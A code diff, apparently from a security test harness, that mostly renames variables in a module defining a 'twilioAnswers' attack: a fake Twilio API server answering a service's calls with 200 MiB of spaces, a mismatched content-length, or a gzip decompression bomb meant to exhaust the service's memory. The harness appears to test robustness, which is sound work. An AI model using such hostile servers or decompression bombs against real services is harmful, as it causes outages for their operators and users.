@@ -1,28 +1,29 @@
 import { createGzip } from "node:zlib"
-import { type Attack, counted } from "../Attack.ts"
-import { type Handler, serve } from "../hosted.ts"
+import { type Attack, countsText } from "../Attack.ts"
+import { type Handler, serve } from "../attackerServer.ts"
 import { askAgainAndAgain } from "../requests.ts"
 
+/** 1 MiB of spaces. */
 const piece = Buffer.alloc(2 ** 20, " ")
 
 /** The length of an answer, MiB. */
-const length = 200
+const answerMiB = 200
 
-/** 200 MiB of blanks, compressed to about 200 KiB. */
-const compressed = (): Promise<Buffer> =>
+/** 200 MiB of spaces, compressed to about 200 KiB. */
+const compressAnswer = (): Promise<Buffer> =>
   new Promise((resolve) => {
     const gzip = createGzip()
     const pieces: Array<Buffer> = []
     gzip.on("data", (chunk: Buffer) => pieces.push(chunk)).once("end", () => resolve(Buffer.concat(pieces)))
-    for (let count = 0; count < length; count++) gzip.write(piece)
+    for (let count = 0; count < answerMiB; count++) gzip.write(piece)
     gzip.end()
   })
 
-/** Sends 200 MiB of blanks, as fast as the service reads them. */
+/** Sends 200 MiB of spaces, as fast as the service reads them. */
 const sendAll: Handler = (_, response) => {
   let sent = 0
   const send = () => {
-    while (sent++ < length) if (!response.write(piece)) return void response.once("drain", send)
+    while (sent++ < answerMiB) if (!response.write(piece)) return void response.once("drain", send)
     response.end()
   }
   send()
@@ -33,7 +34,7 @@ export const twilioAnswers: Attack = {
   strength: "10 outbound calls at a time",
   env: { TWILIO_PHONE_NUMBER: "+14155550199", CALLS_PER_SECOND: "200" },
   host: async () => {
-    const small = await compressed()
+    const compressed = await compressAnswer()
     let asked = 0
     const url = await serve((request, response) => {
       response.statusCode = 201
@@ -42,10 +43,10 @@ export const twilioAnswers: Attack = {
         case 0:
           return sendAll(request, response)
         case 1:
-          response.setHeader("content-length", length * piece.length)
+          response.setHeader("content-length", answerMiB * piece.length)
           return sendAll(request, response)
         default:
-          return void response.setHeader("content-encoding", "gzip").end(small)
+          return void response.setHeader("content-encoding", "gzip").end(compressed)
       }
     })
     return { TWILIO_API_BASE_URL: url }
@@ -64,6 +65,6 @@ export const twilioAnswers: Attack = {
         body
       ].join("\r\n")
     })
-    return counted(answers)
+    return countsText(answers)
   }
 }
